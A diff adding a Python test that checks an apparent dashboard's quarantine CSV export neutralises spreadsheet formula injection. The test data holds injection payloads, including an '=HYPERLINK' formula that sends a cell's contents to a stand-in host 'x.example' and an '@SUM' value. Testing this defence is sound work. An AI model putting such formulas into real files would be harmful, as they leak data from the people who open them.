@@ -285,3 +285,30 @@ def test_user_added_in_the_browser_sets_a_password_and_signs_in(staff_server: st
     assert all("password" not in json.loads(e["detail"]) for e in cli)
     text = b"".join(p.read_bytes() for p in (staff_home / "hub").glob("audit.sqlite*"))
     assert link.rsplit("/", 1)[1].encode() not in text and NEW_PASSWORD.encode() not in text
+
+
+def test_the_quarantine_csv_neutralises_what_a_spreadsheet_would_execute(staff_client, staff_home: Path) -> None:
+    """A partner's file name, field names and values are theirs: a file named ``-1+2.csv`` (kept as ``-1_2.csv``)
+    whose bad rows hold ``=HYPERLINK(...)`` and ``@SUM(...)`` values. Every cell of the download that would start a
+    formula in Excel or LibreOffice is prefixed with ``'``; the page shows the same rows."""
+    sam = staff_client("sam")
+    bad = ['92,=HYPERLINK("http://x.example/?q="&A1),post,en,51.5,-0.12,,user92,x,',
+           "93,2025-03-01T10:00:00+00:00,post,en,@SUM(1+1),-0.12,,user93,x,"]
+    r = sam.post("/staff/upload", data={"csrf_token": sam.token, "kind": "social", "city": "london",
+                                         "file": (io.BytesIO(posts(*ok_rows(1, start=700), *bad)), "-1+2.csv")},
+                 content_type="multipart/form-data")
+    assert r.status_code == 303, r.text[:500]
+    from dashboards.components.staff import load_report, quarantine_rows
+
+    with override(home=staff_home):
+        (shown,) = load_report(r.headers["Location"].rsplit("=", 1)[1])
+        rows = quarantine_rows(shown["sha256"])
+    assert shown["name"] == "-1_2.csv" and shown["quarantined"] == 2 and len(rows) == 2
+    body = json.loads(sam.post("/_dash-update-component", json=_csv_callback(shown["sha256"])).text)
+    text = body["response"]["quarantine-csv"]["data"]["content"]
+    import csv
+
+    cells = [c for line in csv.reader(io.StringIO(text)) for c in line]
+    assert cells[:4] == ["file", "row", "field", "reason"] and len(cells) == 12
+    assert not [c for c in cells if re.match(r"[=+\-@\t\r]", c)], cells
+    assert cells.count("'-1_2.csv") == 2  # the same rows, neutralised, not dropped
